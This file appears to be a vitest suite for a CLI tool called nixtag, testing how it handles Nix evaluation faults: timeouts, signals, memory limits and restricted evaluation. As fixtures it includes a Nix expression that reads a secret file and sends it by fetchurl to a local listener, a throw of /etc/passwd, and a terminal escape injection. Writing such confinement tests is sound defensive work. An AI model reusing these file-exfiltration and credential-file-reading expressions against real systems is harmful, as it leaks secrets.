import { spawnSync } from 'node:child_process';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN } from '../helpers/cli.js';
import { deployment, STALE } from '../helpers/expressions.js';
import { config, expectCleanError, faultRepo, processesMentioning, REPO, runCli, snapshot } from '../helpers/faults.js';
import { listener } from '../helpers/listener.js';
import { nixVariants } from '../helpers/nix.js';
import { until } from '../helpers/pause.js';
import { tempDir, testEnv, writeFiles } from '../helpers/repo.js';

/** Never ends, in bounded memory (a few hundred MB), and ignores SIGTERM as Nix does mid-evaluation. */
const endless = `{ system ? builtins.currentSystem }:
let
  l = builtins.genList (x: x) 1000;
  f = d: if d == 0 then 1 else builtins.foldl' (a: i: a + f (d - 1)) 0 l;
in derivation { name = "x-\${toString (f 10)}"; inherit system; builder = "/bin/sh"; args = [ ]; }
`;

const image = (body: string) => `{ system ? builtins.currentSystem }:
derivation { name = "app"; inherit system; builder = "/bin/sh"; args = [ "-c" "echo > $out" ]; ${body} }
`;

/** Whether Nix is running for a run in `dir` (the evaluation under test never ends by itself). */
const nixRunsIn = (dir: string) => () => processesMentioning(dir).some((line) => line.includes('nix-instantiate'));

const restricted = (extra = '') => config(`evaluation:\n  restrictEval: true\n${extra}`);

describe.each(nixVariants())('Nix under faults ($name)', ({ env }) => {
  it('an evaluation that never ends: exit 3 naming the image after evaluation.timeout, no Nix left', async () => {
    const repo = faultRepo({ 'default.nix': endless, '.nixtagrc.yaml': config('evaluation:\n  timeout: 2\n') });
    const before = snapshot(repo.dir);
    const run = await runCli(repo.dir, ['check'], env);
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toMatch(
      /nixtag: error \[NIX_TIMEOUT\]: Nix did not finish evaluating image 'app' .* within 2 s/,
    );
    expect(run.stderr).toMatch(/evaluation\.timeout/);
    // Long before the test's own timeout: the evaluation alone never ends.
    expect(run.ms).toBeLessThan(60_000);
    expectCleanError(run);
    expect(processesMentioning(repo.dir)).toEqual([]);
    expect(snapshot(repo.dir)).toEqual(before);
  });

  it('SIGTERM (timeout(1)) and Ctrl-C to the group end nixtag and its Nix', async () => {
    const repo = faultRepo({ 'default.nix': endless });
    const timedOut = spawnSync('timeout', ['-s', 'TERM', '2', process.execPath, BIN, 'check'], {
      cwd: repo.dir,
      env: testEnv(env),
      encoding: 'utf8',
    });
    expect(timedOut.status).toBe(124);
    // The TERM may come while a Nix is being started, after nixtag ended the ones it had: the
    // watchdog holding a pipe from nixtag then ends it (TERM, KILL 0.3 s later) as nixtag exits.
    await until(() => processesMentioning(repo.dir).length === 0, 'no Nix is left', { timeoutMs: 5_000 });

    let pid = 0;
    const interrupted = runCli(repo.dir, ['check'], env, { detached: true, onStart: (started) => (pid = started) });
    await until(nixRunsIn(repo.dir), 'Nix evaluates', { stop: interrupted });
    process.kill(-pid, 'SIGINT'); // the terminal's Ctrl-C: nixtag's process group (Nix has its own)
    const run = await interrupted;
    expect(run.code).toBe(130);
    // nixtag ended its Nix before exiting; the watchdog sees the pipe close and goes (on a loaded
    // machine, a moment later).
    await until(() => processesMentioning(repo.dir).length === 0, 'no Nix is left', { timeoutMs: 5_000 });
  });

  it('SIGKILL, which no handler sees, still ends its Nix: the watchdog holding a pipe from nixtag does', async () => {
    const repo = faultRepo({ 'default.nix': endless });
    let pid = 0;
    const killed = runCli(repo.dir, ['check'], env, { detached: true, onStart: (started) => (pid = started) });
    await until(nixRunsIn(repo.dir), 'Nix evaluates', { stop: killed });
    process.kill(pid, 'SIGKILL');
    expect((await killed).signal).toBe('SIGKILL');
    // TERM, then KILL 0.3 s later: the watchdog's whole sequence (the evaluation never ends by itself).
    await until(() => processesMentioning(repo.dir).length === 0, 'the watchdog ends Nix');
  });

  it('a memory limit: exit 3 naming the image and evaluation.memoryLimit', async () => {
    const hungry = image('n = builtins.length (builtins.genList (x: toString x) 20000000);');
    const repo = faultRepo({ 'default.nix': hungry, '.nixtagrc.yaml': config('evaluation:\n  memoryLimit: 256\n') });
    const run = await runCli(repo.dir, ['check'], env);
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toMatch(/nixtag: error \[NIX_MEMORY_LIMIT\]: Nix ran out of memory evaluating image 'app'/);
    expect(run.stderr).toMatch(/evaluation\.memoryLimit/);
    expect(processesMentioning(repo.dir)).toEqual([]);
  });

  it('restrictEval: an expression cannot send a file from outside the repository anywhere', async () => {
    const { port, requests } = await listener();
    const secret = path.join(tempDir('secret-'), 'secret.txt');
    writeFiles(path.dirname(secret), { 'secret.txt': 's3cret' });
    const leak = image(`src = builtins.fetchurl "http://127.0.0.1:${port}/x?leak=\${builtins.readFile ${secret}}";`);

    // Unrestricted (configured so: confinement is the default), the expression reads and sends it.
    const open = faultRepo({ 'default.nix': leak, '.nixtagrc.yaml': config('evaluation:\n  restrictEval: false\n') });
    await runCli(open.dir, ['check'], env);
    expect(requests).toEqual(['/x?leak=s3cret']);
    requests.length = 0;

    const repo = faultRepo({ 'default.nix': leak, '.nixtagrc.yaml': restricted() });
    const before = snapshot(repo.dir);
    const run = await runCli(repo.dir, ['check'], env);
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toMatch(
      /nixtag: error \[NIX_RESTRICTED\]: With evaluation\.restrictEval, image 'app' may read only/,
    );
    expect(run.stderr).toMatch(/evaluation\.restrictEval: false/);
    expect(run.stderr + run.stdout).not.toContain('s3cret');
    expectCleanError(run);
    expect(requests).toEqual([]);
    expect(snapshot(repo.dir)).toEqual(before);

    // Reading only the repository, fetching an unlisted URL is refused too, naming allowedUris.
    const fetcher = image(`src = builtins.fetchurl "http://127.0.0.1:${port}/y";`);
    const unlisted = faultRepo({ 'default.nix': fetcher, '.nixtagrc.yaml': restricted() });
    const refused = await runCli(unlisted.dir, ['check'], env);
    expect(refused.code, refused.stderr).toBe(3);
    expect(refused.stderr).toMatch(/NIX_RESTRICTED.*may fetch only the pin's URL and `evaluation\.allowedUris`/);
    expect(refused.stderr).toContain(`allowedUris: ["http://127.0.0.1:${port}/y"]`);
    expect(requests).toEqual([]);

    // Listed, it is fetched.
    const listed = faultRepo({
      'default.nix': fetcher,
      '.nixtagrc.yaml': restricted(`  allowedUris: ["http://127.0.0.1:${port}/"]\n`),
    });
    await runCli(listed.dir, ['check'], env);
    expect(requests).toEqual(['/y']);
  });

  it('restrictEval: the repository, the store and sources still evaluate to the same tag', async () => {
    const source = image(
      // The checkout is a git repository, as CI's clone is: a source leaves its .git out.
      'src = builtins.path { path = ./.; name = "source"; filter = p: t: baseNameOf p != ".git"; }; data = builtins.readFile ./k8s/../default.nix;',
    );
    const repo = faultRepo({ 'default.nix': source });
    const plain = await runCli(repo.dir, ['hash', '--json'], env);
    // The same tree, restricted by a configuration from outside it.
    const outside = path.join(tempDir('config-'), 'restricted.yaml');
    writeFiles(path.dirname(outside), { 'restricted.yaml': restricted() });
    const confined = await runCli(repo.dir, ['hash', '--json', '--config', outside], env);
    expect(confined.code, confined.stderr).toBe(0);
    expect(JSON.parse(confined.stdout).images[0].hash).toBe(JSON.parse(plain.stdout).images[0].hash);
  });

  it('restrictEval: `throw (readFile /etc/passwd)` prints nothing of it; Nix messages are escaped', async () => {
    const repo = faultRepo({
      'default.nix': '{ ... }: throw (builtins.readFile /etc/passwd)',
      '.nixtagrc.yaml': restricted(),
    });
    const run = await runCli(repo.dir, ['check'], env);
    expect(run.code).toBe(3);
    expect(run.stderr).not.toContain('root:');
    expect(run.stderr).toMatch(/NIX_RESTRICTED/);

    // Nix drops ESC sequences itself, but not a C1 CSI (U+009B), which some terminals obey.
    const noisy = faultRepo({ 'default.nix': '{ ... }: throw (builtins.fromJSON "\\"\\\\u009b2Jboom\\"")' });
    const escaped = await runCli(noisy.dir, ['check'], env);
    expect(escaped.code).toBe(3);
    expect(escaped.stderr).toContain('\\302\\2332Jboom');
    expect(escaped.stderr).not.toContain('\u009b');
    expectCleanError(escaped);
  });
});

describe('a deployment unaffected by the Nix faults above', () => {
  it('checks as before with the defaults', async () => {
    const repo = faultRepo({ 'k8s/app.yaml': deployment(`${REPO}:${STALE}`) });
    const run = await runCli(repo.dir, ['check']);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('stale reference to app');
  });
});
